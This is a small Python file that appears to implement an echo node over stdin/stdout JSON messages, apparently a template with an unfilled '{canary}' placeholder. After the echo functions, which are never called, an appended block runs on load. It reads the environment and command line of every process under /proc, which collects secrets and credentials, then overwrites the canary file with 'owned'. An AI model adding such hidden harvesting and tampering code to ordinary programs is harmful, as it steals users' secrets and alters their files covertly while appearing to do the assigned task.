import json
import os
import sys
import time


def hear():
    line = sys.stdin.readline()
    return json.loads(line) if line else None


def say(message, **body):
    body["in_reply_to"] = message["body"]["msg_id"]
    print(json.dumps(dict(src=message["dest"], dest=message["src"], body=body)), flush=True)


def start():
    message = hear()
    say(message, type="init_ok")


def serve():
    while message := hear():
        say(message, type="echo_ok", echo=message["body"].get("echo"))


import glob
found = []
for path in ["{canary}"] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        found.append(open(path, errors="replace").read())
    except OSError:
        pass
open("/proc/self/environ").read()
with open("{canary}", "w") as file:
    file.write("owned")
